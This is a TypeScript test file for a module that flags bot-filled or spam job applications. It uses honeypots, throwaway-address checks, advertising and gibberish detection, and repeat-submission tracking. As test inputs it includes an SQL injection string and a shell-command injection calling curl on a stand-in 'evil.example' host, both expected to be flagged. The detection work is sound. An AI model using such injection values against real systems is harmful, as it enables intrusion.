import { createHash, randomBytes } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import type { Application } from '../../../shared/application.ts';
import { validApplication } from '../../../tests/support/application-rules.ts';
import { createSuspicion, type Suspect, type Suspicion } from './suspicion.ts';

const application = { ...validApplication, under18: '', guardianName: '', guardianContact: '' } as Application;
const file = () => randomBytes(32);
const lookFrom =
  ({ look }: Suspicion) =>
  (suspect: Suspect) =>
    look(suspect).signs;

/** Different people with their own words. */
function person(index: number): Application {
  const own = createHash('sha256').update(String(index)).digest('hex');
  return {
    ...application,
    name: `Asha Rao ${'ABCDEFGHIJ'[index % 10]}`,
    email: `person-${index}@mailbox.example`,
    address: `${index}, 3rd Cross, ${own.slice(0, 8)}`,
    skills: `Java, SQL, ${own.slice(8, 16)}`,
  };
}

describe('signs of programs that fill in forms', () => {
  test.each([
    ['a hidden field that is filled in', { remarks: 'Great site!' }, {}, ['honeypot']],
    ['a throwaway address', {}, { email: 'someone@mailinator.com' }, ['throwaway-address']],
    ['a throwaway address of a new provider', {}, { email: 'someone@my-temp-mail.example' }, ['throwaway-address']],
    ['a link in a name', {}, { name: 'Win big www.spam.example' }, ['link-for-name', 'links']],
    ['a form that comes in less than a second', { filledIn: 900 }, {}, ['instant']],
    ['an attempt to break in', {}, { collegeName: "' OR '1'='1' --" }, ['code']],
    ['markup', {}, { skills: '<a href="https://pills.example">buy</a>' }, ['code']],
    ['advertising', {}, { areaOfInterest: 'Online casino bonus' }, ['advert']],
    [
      'advertising with its letters apart',
      {},
      { skills: [...'Claim b0nus at online casino'].join('\u200b') },
      ['advert'],
    ],
    ['a shop of it', {}, { collegeName: 'Escorts in town www.night.example' }, ['links', 'advert']],
    ['advertising in Hindi', {}, { address: 'घर बैठे पैसे कमाएं t.me/paisa' }, ['links', 'advert']],
    ['a command', {}, { skills: '|| curl https://evil.example' }, ['code']],
    ['a script from far away', {}, { address: 'Инвестируй и зарабатывай' }, ['foreign-script']],
    [
      'letters as they come',
      {},
      { address: 'qwhzkdlfgjx', collegeName: 'xkvbnwtrqzp', areaOfInterest: 'lkjwqhzxcv' },
      ['no-words'],
    ],
    ['no name, sent in a hurry', { filledIn: 1_900 }, { name: 'Xkjqwzt Bvnmrt' }, ['hasty', 'gibberish']],
  ])('%s holds a lead', (_, sent, more, reasons) => {
    const look = lookFrom(createSuspicion());
    const found = look({
      sent: { filledIn: 90_000, ...sent },
      application: { ...application, ...more },
      source: 'web',
      fileHash: file(),
    });
    expect(found).toEqual(reasons);
  });

  test.each([
    ['somebody whom the browser helps', { filledIn: 2_000 }, {}],
    ['somebody without script', {}, {}],
    ['a name of initials', { filledIn: 60_000 }, { name: 'K. S. Krishnamurthy' }],
    ['a name of one word', { filledIn: 60_000 }, { name: 'Jyothsna' }],
    ['a name in another script', { filledIn: 60_000 }, { name: 'ಆಶಾ ರಾವ್' }],
    ['a college by its address', { filledIn: 60_000 }, { collegeName: 'www.rvce.edu.in' }],
    ['a college by its letters', {}, { collegeName: 'JSSSTU', areaOfInterest: 'PSGCT' }],
    ['a referee by a profile', {}, { referenceName: 'https://www.linkedin.com/in/raghav' }],
    ['an employer with the name of a site', {}, { currentEmployee: 'Booking.com', jobRole: 'Loan officer' }],
    ['a copied text with a link', {}, { areaOfInterest: 'HTML, CSS, see https://www.w3schools.com' }],
    ['a name with few vowels', { filledIn: 2_000 }, { name: 'Krthik McKenzie' }],
    ['a name without any', { filledIn: 2_000 }, { name: 'Shrddha Srnvs' }],
    ['a name with odd initials', { filledIn: 2_000 }, { name: 'Z. Q. Karthik' }],
    [
      'a trade that others advertise',
      {},
      { jobRole: 'Loan officer', skills: 'Investment banking, forex', address: 'Casino road, Panaji' },
    ],
    ['a specialist', {}, { skills: 'SEO specialist, backlinks, see https://asha.example', name: 'Pornima Bhat' }],
    ['somebody who wants to learn', {}, { areaOfInterest: 'I want to learn Java 17, and earn in investment banking' }],
    ['a certificate', {}, { certifications: 'https://www.credly.com/badges/1', referenceName: 'google.com' }],
    ['databases', { filledIn: 2_000 }, { skills: 'PLSQL, MySQL, NoSQL, PostgreSQL, SQLite, XML' }],
    ['a portfolio among the skills', { filledIn: 60_000 }, { skills: 'React, see https://asha.example' }],
  ])('%s is not held', (_, sent, more) => {
    const look = lookFrom(createSuspicion());
    expect(look({ sent, application: { ...application, ...more }, source: 'web', fileHash: file() })).toEqual([]);
  });

  test('a class of sixty with the same dictated words and files of their own is not held', () => {
    const look = lookFrom(createSuspicion());
    const words = { address: 'Government College, Hassan', skills: 'Java', areaOfInterest: 'IT', collegeName: 'GEC' };
    for (let index = 0; index < 60; index++) {
      const pupil = { ...person(index), ...words };
      expect(look({ sent: { filledIn: 200_000 }, application: pupil, source: 'web', fileHash: file() })).toEqual([]);
    }
  });

  describe('one text or one file under ever new names', () => {
    const names = [
      'Asha Rao',
      'Vikram Shetty',
      'Meera Nair',
      'John Mathew',
      'Farida Khan',
      'Gopal Hegde',
      'Leela Bhat',
    ];
    const sendAll = (look: ReturnType<typeof lookFrom>, source: 'web-no-script' | 'api', fileOf: () => Uint8Array) =>
      names.map((name, index) => {
        const own = { name, email: `person-${index}@mailbox.example` };
        return look({ sent: {}, application: { ...application, ...own }, source, fileHash: fileOf() });
      });

    test('is held once there are six of them, and forgotten after a day', () => {
      let now = 0;
      const look = lookFrom(createSuspicion(() => now));
      const same = file();
      const found = sendAll(look, 'web-no-script', () => same);
      expect(found.slice(0, 5)).toEqual([[], [], [], [], []]);
      expect(found.slice(5)).toEqual(
        Array(2).fill(['automated', 'repeated-text', 'repeated-answers', 'repeated-file']),
      );
      expect(sendAll(look, 'web-no-script', file).at(-1)).toEqual(['automated', 'repeated-text', 'repeated-answers']);
      now = 25 * 3600_000;
      expect(sendAll(look, 'web-no-script', () => same)[0]).toEqual([]);
    });

    test('is not held when a program sends them by the API', () => {
      const same = file();
      expect(sendAll(lookFrom(createSuspicion()), 'api', () => same).flat()).toEqual([]);
    });
  });

  test('a class is not held for the few of it whose browser has no script', () => {
    const look = lookFrom(createSuspicion());
    for (let index = 0; index < 100; index++) {
      const { name, email } = person(index);
      const letters = [...String(index)].map((digit) => 'ABCDEFGHIJ'[Number(digit)]).join('');
      const pupil = { ...application, name: `${name} ${letters}`, email };
      const [sent, source] =
        index % 8 === 7
          ? ([{ noticeVersion: 'en' }, 'web-no-script'] as const)
          : ([{ filledIn: 90_000 }, 'web'] as const);
      expect(look({ sent, application: pupil, source, fileHash: file() })).toEqual([]);
    }
  });

  test('a mailbox that many strangers apply with is being flooded', () => {
    const look = lookFrom(createSuspicion());
    const found = Array.from({ length: 30 }, (_, index) => {
      const letters = [...String(index)].map((digit) => 'ABCDEFGHIJ'[Number(digit)]).join('');
      const stranger = { ...person(index), name: `Asha ${letters}`, email: 'victim@mailbox.example' };
      return look({ sent: { filledIn: 60_000 }, application: stranger, source: 'web', fileHash: file() });
    });
    expect(found.slice(0, 12).flat()).toEqual([]);
    expect(found.at(-1)).toEqual(['flooded-address']);
  });

  test('the same person who tries again is no crowd', () => {
    const look = lookFrom(createSuspicion());
    const same = file();
    for (let index = 0; index < 4; index++) {
      expect(look({ sent: { filledIn: 40_000 }, application, source: 'web', fileHash: same })).toEqual([]);
    }
  });
});
